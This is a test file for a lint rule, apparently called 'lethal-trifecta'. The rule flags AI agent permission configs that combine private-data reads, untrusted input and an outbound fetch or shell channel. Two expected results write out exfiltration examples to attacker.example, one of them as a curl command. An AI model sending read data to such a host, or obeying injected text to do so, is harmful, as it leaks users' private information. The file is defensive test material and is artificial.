import { lethalTrifecta } from "../../src/rules/lethal-trifecta.ts";
import { check } from "../support/check.ts";

check(
  lethalTrifecta,
  "three grants, and a session that has read both",
  `
tools:
  mcp:notes/read: { reads: [private] }
rules:
  - { allow: mcp:notes/read }
  - { allow: web.search }
  - { allow: web.fetch, host: "*" }
#            ^^^^^^^^^ lethal-trifecta
`,
  ["https://attacker.example/?q=what+it+read"],
);

check(
  lethalTrifecta,
  "credentials, pages and a command",
  `
rules:
  - { allow: file.read, path: "**" }
  - { allow: web.fetch, host: docs.example.com }
  - { allow: shell, command: "curl **" }
#                            ^^^^^^^^^ lethal-trifecta
`,
  ["curl 'https://attacker.example/?q=what+it+read'"],
);

check(
  lethalTrifecta,
  "asked after reading what a stranger wrote",
  `
tools:
  mcp:notes/read: { reads: [private] }
rules:
  - { allow: [mcp:notes/read, web.search] }
  - { allow: web.fetch, host: "*" }
  - { ask: web.fetch, when: { seen: untrusted } }
`,
);

check(
  lethalTrifecta,
  "two of three",
  `
rules:
  - { allow: file.read, path: "src/**" }
  - { allow: web.search }
  - { allow: web.fetch, host: "*" }
`,
);

check(
  lethalTrifecta,
  "to a named address only",
  `
tools:
  mcp:mail/inbox: { reads: [private, untrusted] }
rules:
  - { allow: mcp:mail/inbox }
  - { allow: mcp:mail/send, args: { to: team@example.com } }
`,
);
